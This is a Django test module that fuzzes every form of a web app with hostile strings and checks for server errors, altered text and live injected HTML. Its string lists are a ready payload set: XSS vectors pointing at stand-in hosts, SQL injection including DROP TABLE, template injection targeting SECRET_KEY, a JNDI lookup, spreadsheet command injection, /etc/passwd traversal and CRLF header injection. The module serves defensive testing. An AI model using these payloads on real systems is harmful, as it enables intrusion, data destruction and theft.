# ruff: noqa: E501  (strings, as many a line as fit)
"""Puts strings that break careless programs into every text field of every form, and looks at what comes back.

The strings are our own, made from kinds (STRINGS). ``walk`` opens every page, finds its forms in the HTML, sends each
string through them twice: once in the text fields alone, the rest filled well, so that it is stored; once in every
field, so that it is refused. It reads the answer, and where something was stored the pages that show it: a string that
is not there word by word, where CONTROL was, is altered. Each request is taken back, so every string meets the same world.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

from django.core.cache import cache
from django.db import transaction
from django.test import Client

CONTROL = "Said in plain words"  # what nothing should change: where it is shown again, every string should be
MARK = "zq7"  # in every string that would be alive, so that what came from us is told from what is ours

_LIVE = (
    "<script>{m}()</script>", "<img src=x onerror={m}()>", "<svg/onload={m}()>", "\"><svg onload={m}()>",
    "'><img src=x onerror={m}()>", "' onmouseover='{m}()", "\" autofocus onfocus=\"{m}()", "</textarea><script>{m}()</script>",
    "</title><script>{m}()</script>", "</option></select><img src=x onerror={m}()>", "<!--<img src=\"--><img src=x onerror={m}()>",
    "<a href=\"javascript:{m}()\">x</a>", "<a href=\"data:text/html,<script>{m}()</script>\">x</a>", "<base href=//{m}.example/>",
    "<iframe srcdoc=\"<script>{m}()</script>\"></iframe>", "<form action=//{m}.example><input name=password>",
    "<meta http-equiv=refresh content=\"0;//{m}.example\">", "<style>@import '//{m}.example'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={m}()>", "<details open ontoggle={m}()>",
    "&lt;script&gt;{m}()&lt;/script&gt;", "&#60;script&#62;{m}()", "%3Cscript%3E{m}()%3C/script%3E",
    "\\u003cscript\\u003e{m}()", "<scr<script>ipt>{m}()</scr</script>ipt>", "<SCRIPT SRC=//{m}.example></SCRIPT>",
    "<img src=`x` onerror=`{m}()`>", "<x onclick={m}()>", "\x0c<script\x0c>{m}()</script>", "<script\n>{m}()</script\n>",
    "{m}\" hx-get=\"/accounts/logout/\" hx-trigger=\"load", "<div hx-get=/x hx-trigger=load>{m}</div>", "`{m}()`", "]]><script>{m}()</script>",
)  # fmt: skip
_SQL = (
    "' OR '1'='1", "'; DROP TABLE involvement_activity; --", "1; SELECT pg_sleep(0)--", "\\'; --", "%' OR 1=1 --", "\" OR \"\"=\"",
    "') UNION SELECT email FROM involvement_user --", "$$; SELECT 1; $$", "{fn now()}", "%", "_", "%%", "\\", "\\\\", "%(id)s", "%s%s%n",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7|add:7 }}", "{% load static %}", "{{ settings.SECRET_KEY }}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}",
    "{0}", "{0.__class__}", "{!r}", "%(x)", "%d", "{", "}", "{{", "{%", "${jndi:ldap://x.invalid/a}", "{{ request.user.password }}",
)  # fmt: skip
_SHEETS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//x.invalid\")", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "'=1+1",
    "''=1+1", "' =1", "=cmd|' /C calc'!A0", "\uff1d1+1", ";=1", ",=1", "\"=1\"", "\n=1+1",
)  # fmt: skip
_SIGNS = (
    "\u202eabc", "a\u200bb", "a\u00adb", "\ufeffx", "e\u0301", "Z\u0351\u036b\u0343\u036a\u0302", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f", "\u0000", "a\u0000b", "\x01\x02\x1b[31m", "\x7f", "\x85x",
    "a\u2028b\u2029c", "\r\nSet-Cookie: a=b", "a\rb", "a\nb\nc", "\u3000", "\u0130\u0131\u017f\u212a", "\u00df\ufb01", "\uffff", "\ue000",
    "\U0010ffff", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u65e5\u672c\u8a9e", "\ufdfa", "Łódź", "Sgwâr y Castell", "O’Brien",
    "D'Arcy \"Ned\"", "null", "None", "undefined", "true", "NaN", "-Infinity", "[]", "{}", "\"", "'", "<", ">", "&", "&amp;", "/", "?", "#",
)  # fmt: skip
_NUMBERS = (
    "0", "-1", "1e309", "99999999999999999999999", "0x7f", "1_000", "\u0661\u0662", "\uff11", "\u00b2", "1,000", "1.5", "-0", "+1", "2147483648",
    "9223372036854775808", "29/02/2025", "0000-00-00", "9999-12-31", "12:60",
)  # fmt: skip
_PLACES = (
    "../../../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "//x.invalid", "https://x.invalid/?a=b&c=<d>", "javascript:alert(1)",
    "mailto:a@b", "http://[::1]/", "https://" + "a" * 300, "C:\\x", "a/b.php%00.png", "CON", ".htaccess", "~root",
)  # fmt: skip
_LONG = ("x" * 301, "é" * 1_001, "<b>" * 400, "a " * 12_000, "\U0001f600" * 600, "\n" * 3_000)
STRINGS = (
    *(each.replace("{m}", MARK) for each in _LIVE),
    *_SQL,
    *_TEMPLATES,
    *_SHEETS,
    *_SIGNS,
    *_NUMBERS,
    *_PLACES,
    *_LONG,
)
SAMPLE = (
    f"\"'><img src=x onerror={MARK}()></textarea><script>{MARK}()</script>{{{{ 7|add:7 }}}}%(x)s%s'; --",
    "a\u0000b", "9" * 30, "\u202e=1+1 \U0001f468\u200d\U0001f469 é\u2028" + "x" * 400,
)  # fmt: skip

GOOD = {  # what a page needs beside its text, to store something; a list has several values
    "status": "running", "kind": "plan", "outcome": "changed", "facets": ["users/experience"], "place": "owners", "decided_on": "3 5 2026",
    "due_on": "3 5 2030", "review_on": "", "told_on": "", "dated_on": "", "from_on": f"{date.today():%d %m %Y}", "adopted_on": "3 5 2026", "roles": ["viewer"],
    "contested_kind": "scrutiny", "running": "yes", "version": None, "nation": "england", "kept": "", "act": "changed", "piece": "", "service": "",
    "about": "owners/priorities", "period_from": "3 5 2025", "period_to": "3 5 2026", "retired_on": "",
}  # fmt: skip
FIGURES = re.compile(r"(.*_)?(reach|hours|cost|percent)")  # text fields that take a number only
HEADED = {"text": "Title\n"}  # a list that is pasted has a heading
SHAPED = ("ods_code",)  # left empty: it takes a few letters and figures only


class Page(HTMLParser):
    """The forms of a page, and whatever in it is alive that should not be."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self.alive: list[str] = []
        self.words: list[str] = []
        self._textarea = None
        self._select = None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        said = {name: value or "" for name, value in attrs}
        self._judge(tag, said)
        if tag == "form":
            self.forms.append(
                {"action": said.get("action", ""), "method": said.get("method", "get").lower(), "fields": [], "options": {}}
            )
        if tag == "option" and self._select is not None:
            options = self.forms[-1]["options"].setdefault(self._select, [])
            options.insert(0 if "selected" in said else len(options), said.get("value", ""))
        if not self.forms or "name" not in said:
            return
        fields = self.forms[-1]["fields"]
        if tag in ("input", "button") and said.get("type") != "file":
            kind = said.get("type", "text") if tag == "input" else "submit"
            fields.append((said["name"], kind, said.get("value", ""), "checked" in said))
        elif tag == "input":
            fields.append((said["name"], "file", "", False))
        elif tag == "textarea":
            fields.append((said["name"], "textarea", "", False))
        elif tag == "select":
            self._select = said["name"]
            fields.append((said["name"], "select", "", False))

    def _judge(self, tag: str, said: dict) -> None:
        handlers = [name for name in said if name.startswith("on")]
        inline = tag in ("iframe", "base", "object", "embed", "style") or (
            tag == "script" and not said.get("src", "").startswith("/static/")
        )
        lead = [said.get(name, "") for name in ("href", "src", "action", "formaction")]
        outside = [each for each in lead if re.match(r"\s*(javascript|data|vbscript):", each, re.IGNORECASE)]
        marked = MARK in tag or any(MARK in name for name in said) or MARK in said.get("hx-get", "")
        if handlers or inline or outside or marked or (tag == "meta" and "http-equiv" in said):
            self.alive.append(f"<{tag} {said}>"[:200])

    def handle_data(self, data):
        self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.words).split())


A_LINE_EACH = re.compile(r"/workshops/\d+/cards/$")  # here each line is a card of its own, as the page says


@dataclass
class Tally:
    """What the walk saw."""

    pages: int = 0
    forms: set = field(default_factory=set)
    fields: set = field(default_factory=set)
    sent: int = 0
    stored: int = 0
    shown: int = 0  # stored, and found again word by word on a page that shows it
    altered: list[str] = field(default_factory=list)  # stored, and not found again where CONTROL was
    failed: list[str] = field(default_factory=list)  # answers of 500 and more
    alive: list[str] = field(default_factory=list)

    def __str__(self) -> str:
        return (
            f"{self.pages} pages, {len(self.forms)} forms, {len(self.fields)} text fields, {self.sent} requests, "
            f"{self.stored} stored, {self.shown} shown again, {len(self.altered)} altered, {len(self.failed)} of 500, {len(self.alive)} live nodes"
        )


def walk(
    clients: dict[str, Client],
    addresses: dict[str, list[str]],
    strings: Iterable[str],
    *,
    also_in: dict,
    told: Callable[[str, Tally], None] = lambda where, tally: None,
) -> Tally:
    """Send ``strings`` through the forms of ``addresses`` (person -> pages); ``also_in``: query names for GET.

    ``told`` is called after each page, which a long walk may print.
    """
    tally, strings = Tally(), list(strings)
    for person, pages in addresses.items():
        for where in pages:
            _walk_page(clients[person], where, strings, tally, also_in)
            told(where, tally)
    return tally


def _walk_page(client: Client, where: str, strings: list[str], tally: Tally, also_in: dict) -> None:
    opened = _ask(client, "get", where, {})
    if opened.status_code != 200 or not opened["Content-Type"].startswith("text/html"):
        _note(tally, where, "GET", "", opened)
        return
    tally.pages += 1
    page = Page(_text(opened))
    _note(tally, where, "GET", "", opened, page)
    for number, form in enumerate(page.forms):
        action = urljoin(where, form["action"])
        path = urlsplit(action).path
        if (
            urlsplit(action).netloc
            or path.startswith(("/accounts/logout", "/accounts/second-step"))
            or not _worded(form)
        ):
            continue
        tally.forms.add((path, number, form["method"]))
        tally.fields |= {(path, name) for name in _worded(form)}
        plain = None
        for text in (CONTROL, *strings):
            for everywhere in (False, True):
                with transaction.atomic():
                    shown = _send(client, action, form, text, everywhere, tally)
                    transaction.set_rollback(True)
                if text == CONTROL:
                    plain = plain or shown
                elif plain and shown is False and not (A_LINE_EACH.search(path) and re.search(r"[\r\n]", text)):
                    tally.altered.append(f"{action} {text[:60]!r}")
    names = also_in.get(where.partition("?")[0], ())
    for text in strings if names else ():
        answer = _ask(client, "get", where + ("&" if "?" in where else "?"), dict.fromkeys(names, text))
        tally.sent += 1
        _note(tally, where, "?…", text, answer)


def _worded(form: dict) -> list[str]:
    return [
        name
        for name, kind, _v, _c in form["fields"]
        if kind in ("text", "search", "textarea", "email", "url", "password")
    ]


def _send(client: Client, action: str, form: dict, text: str, everywhere: bool, tally: Tally) -> bool | None:
    """Send a form with ``text``; return whether it was shown again, None where nothing was stored."""
    data = _filled(form, text, everywhere)
    tally.sent += 1
    answer = _ask(client, form["method"], action, data)
    page = _note(tally, action, form["method"].upper(), text, answer)
    if form["method"] == "post" and page is not None and (ticks := _ticks(page)):
        answer = _ask(client, "post", action, data | ticks)
        _note(tally, action, "POST ticked", text, answer)
    if answer.status_code == 302 and form["method"] == "post":
        tally.stored += 1
        return _look_back(client, action, answer["Location"], text, tally)
    return None


def _ticks(page: Page) -> dict:
    return {name: value for form in page.forms for name, _k, value, _c in form["fields"] if name.endswith("-as-it-is")}


def _look_back(client: Client, action: str, there: str, text: str, tally: Tally) -> bool | None:
    """Read the pages that show what was stored; return whether it is there, None where there are no signs to find."""
    pages = [there]
    if found := re.match(r"(/o/[\w-]+/)((activities/\d+/)?|\w+/)", action):
        pages += [found[0] + "history/" if found[3] else found[0], found[1] + "history/"]
    elif found := re.match(r"(/o/[\w-]+/activities/\d+/)", there):
        pages.append(found[0] + "history/")
    wanted, seen = " ".join(text.split()), False
    for where in pages:
        answer = _ask(client, "get", urljoin(action, where), {})
        page = _note(tally, where, "back", text, answer)
        seen |= page is not None and bool(wanted) and wanted in page.text
    tally.shown += seen
    return seen if wanted else None


def _filled(form: dict, text: str, everywhere: bool) -> dict:
    """Return what to send: ``text`` in the fields for words, the rest well filled; or ``text`` in every field."""
    data: dict = {}
    offered = form["options"] | {}
    for name, kind, value, _checked in form["fields"]:
        if kind in ("radio", "checkbox"):
            offered.setdefault(name, []).append(value)
    for name, kind, value, checked in form["fields"]:
        part = re.fullmatch(r"(.+)_(day|month|year)", name)
        if kind == "file":
            if everywhere:
                upload = io.BytesIO(b"\x89PNG\r\n\x1a\n" + text.encode("utf-8", "replace"))
                upload.name = (text.replace("/", "").replace("\x00", "")[:200] or "x") + ".png"
                data[name] = upload
        elif name in ("csrfmiddlewaretoken", "request_key"):
            data[name] = value
        elif everywhere and kind != "submit":
            data[name] = text
        elif kind == "submit":
            if name not in data and name not in ("look", "change"):
                data[name] = value
        elif part:
            said = GOOD.get(part[1], "3 5 2026") or "  "
            data[name] = said.split(" ")[("day", "month", "year").index(part[2])]
        elif name in GOOD and kind in ("radio", "checkbox", "select") and _is_offered(GOOD[name], offered[name]):
            data[name] = GOOD[name]
        elif kind == "select":
            data[name] = next(filter(None, offered.get(name, [])), "")
        elif kind == "radio":
            data.setdefault(name, value)
        elif kind == "checkbox":
            if checked:
                data.setdefault(name, []).append(value)
        elif FIGURES.fullmatch(name):
            data[name] = "12"
        elif name in SHAPED:
            data[name] = ""
        elif kind in ("text", "search", "textarea"):
            data[name] = HEADED.get(name, "") + text
        elif kind == "email":
            data[name] = "somebody@example.org"
        elif kind == "url":
            data[name] = "https://example.org/"
        else:
            data[name] = value
    return {name: value for name, value in data.items() if value is not None}


def _is_offered(wanted, offered: list[str]) -> bool:
    return wanted is not None and set([wanted] if isinstance(wanted, str) else wanted) <= set(offered)


def _ask(client: Client, method: str, where: str, data: dict):
    cache.clear()  # or the limits on guessing would answer in the form's place
    return getattr(client, method)(where, data)


def _text(answer) -> str:
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return body.decode(errors="replace")


def _note(tally: Tally, where: str, how: str, text: str, answer, page: Page | None = None) -> Page | None:
    """Count what is wrong with an answer; return its page when it is one."""
    if answer.status_code >= 500:
        tally.failed.append(f"{how} {where} {text[:60]!r}: {answer.status_code}")
    if not answer.get("Content-Type", "").startswith("text/html"):
        _text(answer)
        return None
    page = page or Page(_text(answer))
    tally.alive += [f"{how} {where} {text[:60]!r}: {each}" for each in page.alive]
    return page


def clients_of(people: dict, names: Iterable[str]) -> Iterator[tuple[str, Client]]:
    """Yield a client for each name, signed in."""
    for name in names:
        client = Client(raise_request_exception=False)
        client.force_login(people[name])
        yield name, client
